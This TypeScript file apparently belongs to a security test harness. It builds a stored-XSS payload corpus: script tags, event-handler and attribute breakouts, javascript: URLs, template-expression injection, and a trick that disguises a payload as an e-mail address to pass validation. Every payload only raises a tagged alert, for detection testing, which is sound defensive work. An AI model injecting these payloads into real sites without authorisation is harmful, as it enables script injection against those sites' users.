/**
 * The stored-XSS corpus: each payload calls `alert('xss:<id>')` if a page ever runs it, with an id of its own, so an
 * alarm names the payload and the field it was put into.
 */

export interface PayloadKind {
  name: string;
  make(id: string): string;
}

const alertCall = (id: string) => `alert('xss:${id}')`;
/** For payloads that sit inside single quotes themselves. */
const alertInBackticks = (id: string) => `alert(\`xss:${id}\`)`;

export const payloadKind = {
  scriptTag: { name: 'script tag', make: (id) => `<script>${alertCall(id)}</script>` },
  imageOnError: { name: 'image error handler after a closed attribute', make: (id) => `"><img src=x onerror=${alertCall(id)}>` },
  svgOnLoad: { name: 'svg onload', make: (id) => `<svg onload=${alertCall(id)}>` },
  /** Without a space, so it passes for the local part of an e-mail address. */
  svgOnLoadWithoutSpace: { name: 'svg onload without a space', make: (id) => `<svg/onload=${alertCall(id)}>` },
  javascriptUrl: { name: 'javascript: URL', make: (id) => `javascript:${alertCall(id)}` },
  scriptOutOfPreloadedJson: { name: 'script breaking out of preloaded JSON', make: (id) => `</script><script>${alertCall(id)}</script>` },
  javascriptLink: { name: 'link to a javascript: URL', make: (id) => `<a href="javascript:${alertCall(id)}">x</a>` },
  singleQuotedAttribute: { name: 'single-quoted attribute breakout', make: (id) => `' onfocus='${alertInBackticks(id)}' autofocus x='` },
  doubleQuotedAttribute: { name: 'double-quoted attribute breakout', make: (id) => `" onfocus="${alertInBackticks(id)}" autofocus x="` },
  templateExpression: { name: 'template expression', make: (id) => `{{constructor.constructor('${alertInBackticks(id)}')()}}` },
  iframeSrcdoc: { name: 'iframe srcdoc', make: (id) => `<iframe srcdoc="<script>${alertCall(id)}</script>">` },
} satisfies Record<string, PayloadKind>;

export const payloadKinds: readonly PayloadKind[] = Object.values(payloadKind);

export interface Payload {
  id: string;
  kind: string;
  text: string;
  /** Where it was put: an inventory field's name or a curated step's. */
  into: string;
}

/** An e-mail address the store's address rules take, with the payload as its local part (it has no space). */
export const asEmailAddress = (payload: Payload): Payload => ({ ...payload, text: `${payload.text}@example.com` });

/** The id an alarm names (`xss:1k` → `1k`), or null. */
export const alarmIdOf = (text: string): string | null => /xss:([0-9a-z]+)/i.exec(text)?.[1]?.toLowerCase() ?? null;

/** Hands out payloads with ids unique in this run and remembers what each was put into. */
export class PayloadBook {
  private count = 0;
  private readonly byId = new Map<string, Payload>();

  /** The payload of this kind for `into`, or null when even its shortest form does not fit `maxLength`. */
  make(kind: PayloadKind, into: string, limits: { maxLength?: number; minLength?: number } = {}): Payload | null {
    const id = (this.count + 1).toString(36);
    const text = kind.make(id);
    if (limits.maxLength !== undefined && text.length > limits.maxLength) return null;
    if (limits.minLength !== undefined && text.length < limits.minLength) return null;
    this.count += 1;
    const payload = { id, kind: kind.name, text, into };
    this.byId.set(id, payload);
    return payload;
  }

  find(id: string): Payload | undefined {
    return this.byId.get(id);
  }

  get made(): number {
    return this.count;
  }
}

/** Whether any payload of the corpus fits a field of this length (ids take at most three characters here). */
export const fitsAnyPayload = (maxLength: number | undefined): boolean =>
  maxLength === undefined || payloadKinds.some((kind) => kind.make('zzz').length <= maxLength);
